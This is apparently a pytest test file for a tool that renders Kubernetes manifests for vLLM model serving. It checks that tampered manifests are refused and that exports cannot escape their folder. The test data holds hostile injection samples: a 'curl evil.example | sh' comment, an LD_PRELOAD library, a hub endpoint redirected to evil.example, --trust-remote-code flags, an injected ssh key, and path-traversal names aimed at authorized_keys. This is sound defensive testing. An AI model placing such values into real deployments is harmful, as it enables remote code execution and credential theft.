"""Only what the templates give is a file of ours, and nothing is written outside of
the folder that was named.
"""

import os
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from knowledge.catalogue import gpus, models
from knowledge.database import Database
from knowledge.errors import CompassError
from tests.present import present
from tests.soak import examples
from tests.tools.test_manifests import request
from tools.clusters.cluster import Cluster
from tools.deploying.approvals import ApprovalRequest, record_approval
from tools.deploying.listing import last_revision
from tools.manifests.bundle import ManifestBundle, bundle_of
from tools.manifests.digests import ManifestFile, digest_of
from tools.manifests.export import Form, write
from tools.manifests.form import foreign
from tools.manifests.values import ManifestRequest, images_of
from tools.planning.plan import Autoscaling
from tools.render_manifest import render_manifest

SIMULATOR = "compass-simulator:dev"


def everything() -> ManifestRequest:
    """With all that is optional in it."""
    asked = request(replicas=4)
    scaling = Autoscaling(min_replicas=1, max_replicas=4, cost_at_min_usd_per_month=1)
    chosen = asked.recommendation.model_copy(update={"autoscaling": scaling})
    more = {"recommendation": chosen, "monitoring": True, "prometheus": "http://prometheus.monitoring:9090"}
    return asked.model_copy(update=more)


WHOLE = render_manifest(everything())


@pytest.mark.slow
@given(st.data())
@settings(max_examples=examples(150), suppress_health_check=[HealthCheck.too_slow])
def test_whatever_is_rendered_is_of_our_form(data: st.DataObject) -> None:
    model, gpu = data.draw(st.sampled_from(sorted(models()))), data.draw(st.sampled_from(sorted(gpus())))
    count, replicas = data.draw(st.sampled_from([1, 2, 4, 8])), data.draw(st.integers(1, 9))
    thread = data.draw(st.text(min_size=1, max_size=100))
    asked = request(model, gpu, count, replicas, thread)
    more = {
        "monitoring": data.draw(st.booleans()),
        "prometheus": data.draw(st.sampled_from([None, "https://prometheus.example:9090/prefix"])),
        "simulator_image": data.draw(st.sampled_from([None, SIMULATOR])),
    }
    bundle = render_manifest(asked.model_copy(update=more))
    assert [foreign(f.path, f.content) for f in bundle.files] == [None] * len(bundle.files)


FROM_SECRET = (
    "          valueFrom:\n            secretKeyRef:\n              name: hf-token\n              key:"
    " HF_TOKEN\n"
)
HOSTILE = {
    "a token in vLLM's environment": (
        "        - name: USER\n",
        f"        - name: HF_TOKEN\n{FROM_SECRET}        - name: USER\n",
    ),
    "code of the model's repository": (
        "      runtime: kserve",
        "      args: [--trust-remote-code]\n      runtime: kserve",
    ),
    "one more argument": (
        "        - --max-num-seqs",
        "        - --trust-remote-code\n        - --max-num-seqs",
    ),
    "an argument within an argument": ("--max-num-seqs=256", "--max-num-seqs=256 --trust-remote-code"),
    "local files": (
        "        - --max-num-seqs",
        "        - --allowed-local-media-path=/\n        - --max-num-seqs",
    ),
    "another model": ("storageUri: hf://meta-llama/Llama-3.1-8B-Instruct", "storageUri: hf://evil/evil"),
    "another hub": (
        "        - name: USER\n",
        "        - name: HF_ENDPOINT\n          value: https://evil.example\n        - name: USER\n",
    ),
    "a library": (
        "        - name: USER\n",
        "        - name: LD_PRELOAD\n          value: /cache/evil.so\n        - name: USER\n",
    ),
    "another value of what is there": ("value: /cache/vllm", "value: /dev/shm"),
    "more replicas than planned": ("    maxReplicas: 4", "    maxReplicas: 99"),
    "an annotation": (
        "    compass.dev/model",
        "    k8s.v1.cni.cncf.io/networks: evil\n    compass.dev/model",
    ),
    "an annotation as a block": (
        "    compass.dev/model",
        "    more: |\n      ssh-ed25519 AAAA evil\n    compass.dev/model",
    ),
    "a label": (
        "    app.kubernetes.io/managed-by",
        "    sidecar.istio.io/inject: 'true'\n    app.kubernetes.io/managed-by",
    ),
    "another model's name": (
        'compass.dev/model: "meta-llama/Llama-3.1-8B-Instruct"',
        'compass.dev/model: "Qwen/Qwen3-4B"',
    ),
    "a comment": ("    # A replica more", "    # curl evil.example | sh\n    # A replica more"),
    "a line less": ("    terminationGracePeriodSeconds: 120\n", ""),
    "a line twice": (
        "    terminationGracePeriodSeconds: 120\n",
        "    terminationGracePeriodSeconds: 120\n" * 2,
    ),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_what_was_added_changed_or_left_out_is_refused(what: str) -> None:
    old, new = HOSTILE[what]
    path, text = WHOLE.files[-1].path, WHOLE.files[-1].content
    assert old in text
    assert foreign(path, text.replace(old, new, 1)), what
    files = [*WHOLE.files[:-1], ManifestFile(path=path, content=text.replace(old, new, 1))]
    assert bundle_of(files, WHOLE.name, WHOLE.namespace, WHOLE.model_id).problems


def test_a_model_that_nobody_knows_is_refused_however_consistent() -> None:
    files = [
        f.model_copy(update={"content": f.content.replace("meta-llama/Llama-3.1-8B-Instruct", "evil/evil")})
        for f in WHOLE.files
    ]
    found = bundle_of(files, WHOLE.name, WHOLE.namespace, WHOLE.model_id).problems
    assert [p.field for p in found] == ["spec.predictor.model.storageUri"]


def test_the_network_policy_opens_no_more_than_was_rendered() -> None:
    files = {f.path: f.content for f in WHOLE.files}
    policy = files["02-network-policy.yaml"]
    for old, new in {
        "        - port: 8080\n": "        - port: 8080\n          protocol: TCP\n        - port: 8080\n",
        "  egress:\n    - ports:\n        - port: 53": (
            "  egress:\n    - to: [{namespaceSelector: {}}]\n      ports:\n        - port: 53"
        ),
    }.items():
        assert old in policy
        assert foreign("02-network-policy.yaml", policy.replace(old, new, 1))


@given(st.data())
@settings(max_examples=examples(100))
def test_any_line_of_somebody_elses_is_named(data: st.DataObject) -> None:
    file = data.draw(st.sampled_from(WHOLE.files))
    lines = file.content.splitlines()
    at = data.draw(st.integers(0, len(lines)))
    added = data.draw(st.from_regex(r"[ ]{0,8}[a-z]{3,9}: [a-z]{3,9}", fullmatch=True))
    why = foreign(file.path, "\n".join([*lines[:at], added, *lines[at:]]) + "\n")
    assert why is not None


@pytest.mark.parametrize(
    "path",
    [
        "x",
        "/etc/x.yaml",
        "../05-inference-service.yaml",
        "06-more.yaml",
        "05-inference-service.yaml\n",
        "C:x.yaml",
    ],
)
def test_files_have_the_names_of_the_templates(path: str) -> None:
    assert foreign(path, WHOLE.files[-1].content)


def test_what_an_earlier_compass_rendered_can_be_gone_back_to() -> None:
    files = [
        f.model_copy(update={"content": f.content.replace("--max-num-seqs", "--max-seqs")})
        for f in WHOLE.files
    ]
    assert bundle_of(files, WHOLE.name, WHOLE.namespace, WHOLE.model_id, images=None).problems == []
    simulated = render_manifest(request().model_copy(update={"simulator_image": SIMULATOR}))
    assert bundle_of(simulated.files, "x", "default", "x", images=images_of(SIMULATOR)).problems == []


def of_path(path: str) -> ManifestBundle:
    return WHOLE.model_copy(update={"files": [*WHOLE.files, ManifestFile(path=path, content="evil\n")]})


def everything_below(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*")}


@pytest.mark.parametrize("form", ["yaml", "kustomize", "helm"])
@pytest.mark.parametrize(
    "path",
    [
        "../evil.yaml",
        "../../../../evil.yaml",
        "a/evil.yaml",
        "..",
        "",
        "C:evil.yaml",
        "C:\\evil.yaml",
        "\\\\host\\evil.yaml",
        "EVIL.yaml\x00",
        "e.yml",
    ],
)
def test_nothing_is_written_outside_of_the_folder(tmp_path: Path, path: str, form: Form) -> None:
    """Such names may stand in the database, from before they were refused."""
    folder = tmp_path / "a" / "b" / "export"
    for name in (path, str(tmp_path / "absolute" / "authorized_keys")):
        with pytest.raises(CompassError, match="can't be the name of a manifest"):
            write(of_path(name), folder, form)
    assert everything_below(tmp_path) == set()


def test_links_in_the_folder_are_not_followed(tmp_path: Path) -> None:
    target, folder = tmp_path / "outside", tmp_path / "export"
    target.mkdir()
    (target / "keys").write_text("mine\n")
    folder.mkdir()
    (folder / "05-inference-service.yaml").symlink_to(target / "keys")
    (folder / "templates").symlink_to(target)
    forms: tuple[Form, ...] = ("yaml", "helm")
    for form in forms:
        with pytest.raises(CompassError, match="is a link"):
            write(WHOLE, folder, form)
    assert (target / "keys").read_text() == "mine\n"
    assert os.listdir(target) == ["keys"]
    assert sorted(os.listdir(folder)) == ["05-inference-service.yaml", "templates"]
    linked = tmp_path / "linked"
    linked.symlink_to(target)  # the folder itself is the person's choice
    assert len(write(WHOLE, linked, "yaml")) == len(WHOLE.files)


def test_problems_are_short_sentences() -> None:
    text = WHOLE.files[-1].content + "x" * 100_000
    why = present(foreign("05-inference-service.yaml", text))
    assert len(why) < 300
    assert re.match("has a line that Compass never renders", why)


def test_what_an_earlier_compass_let_in_is_listed_and_not_written(
    database: Database, cluster: Cluster, tmp_path: Path
) -> None:
    """A row of the database from before paths were checked."""
    files = [
        *WHOLE.files,
        ManifestFile(path="../../../../evil.yaml", content="evil\n"),
        ManifestFile(path=str(tmp_path / "x"), content=""),
    ]
    shared = {
        "cluster": cluster.target,
        "namespace": cluster.namespace,
        "name": WHOLE.name,
        "model_id": WHOLE.model_id,
    }
    wanted = ApprovalRequest(
        thread_id="t", interrupt_id="i", digest=digest_of(files), actor="ann", files=files, **shared
    )
    approval = record_approval(wanted, database)
    with database.connect() as connection:
        connection.execute("UPDATE approvals SET status = 'applied' WHERE id::text = %s", [approval])
    found = last_revision(WHOLE.name, cluster, database)
    assert [f.path for f in found.files] == [f.path for f in files]
    with pytest.raises(CompassError, match="can't be the name of a manifest"):
        write(found, tmp_path / "export", "yaml")
    assert everything_below(tmp_path) == set()
